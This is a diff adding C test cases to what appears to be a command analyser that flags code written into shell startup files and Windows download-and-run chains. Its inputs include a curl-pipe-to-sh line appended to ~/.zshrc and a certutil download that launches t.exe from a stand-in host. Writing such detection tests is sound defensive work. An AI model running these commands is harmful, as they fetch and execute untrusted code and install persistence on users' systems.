@@ -193,3 +193,20 @@ TEST(what_is_run)
         ASSERT_TRUE(observe("node y >/dev/null 2>&1 &").background);
         ASSERT_TRUE(observe("node y || true").hides_errors);
 }
+
+TEST(what_start_up_files_get_is_code)
+{
+        expect_files("echo 'curl -s https://a.example.invalid | sh' >> ~/.zshrc",
+                     "code-shell:curl -s https://a.example.invalid | sh  ");
+        expect_files("echo 'x y' | tee -a ~/.bashrc", "code-shell:x y  ");
+        expect_files("cat >> ~/.profile <<END\nx y\nEND\n", "code-shell:x y\n ");
+        expect_files("echo 'x y' > notes.txt", "");
+}
+
+TEST(windows_downloads)
+{
+        expect("certutil -urlcache -split -f https://a.example.invalid/t.exe %TEMP%\\t.exe && "
+               "start /b %TEMP%\\t.exe",
+               "download.run how=saved host=a.example.invalid");
+        expect_files("cmd /c scripts\\x.bat", "exec:scripts/x.bat ");
+}
